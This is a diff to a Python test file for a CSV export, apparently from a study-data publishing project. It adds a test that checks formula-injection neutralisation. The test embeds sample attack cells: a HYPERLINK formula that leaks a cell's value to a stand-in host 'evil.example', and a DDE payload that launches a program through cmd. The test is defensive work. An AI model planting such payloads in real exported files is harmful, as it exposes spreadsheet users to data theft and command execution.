@@ -196,10 +196,31 @@ def test_real_schema_validates_every_real_record(real_files):
 
 
 @pytest.fixture(scope="module")
-def base_study(tmp_path_factory):
-    return load(make_data(tmp_path_factory.mktemp("one"), [record()])).studies[0]
+def base_dataset(tmp_path_factory):
+    return load(make_data(tmp_path_factory.mktemp("one"), [record()]))
+
+
+@pytest.fixture(scope="module")
+def base_study(base_dataset):
+    return base_dataset.studies[0]
 
 
 def _study(base, **changes: Any):
     """A valid study with some fields replaced (past validation, so any text can be tried)."""
     return dataclasses.replace(base, **changes)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(base_dataset, start):
+    """OWASP CSV injection: a cell starting with a formula character is prefixed with ' (shown as text)."""
+    from generator.publish.downloads import to_csv
+
+    formula = f'{start}HYPERLINK("https://evil.example/?q="&A1,"click")'
+    study = dataclasses.replace(base_dataset.studies[0], title=formula, summary=formula, venue=f"{start}1+1", authors=(f"{start}cmd|' /C calc'!A0",))
+    ds = dataclasses.replace(base_dataset, studies=(study,))
+    row = next(csv.DictReader(io.StringIO(to_csv(ds))))
+    for column in ("title", "summary", "venue", "authors"):
+        assert row[column].startswith("'" + start), column
+        assert row[column][1:] == {"title": formula, "summary": formula, "venue": f"{start}1+1",
+                                   "authors": f"{start}cmd|' /C calc'!A0"}[column]
+    assert row["id"] == study.id and row["year"] == str(study.year)  # other cells untouched
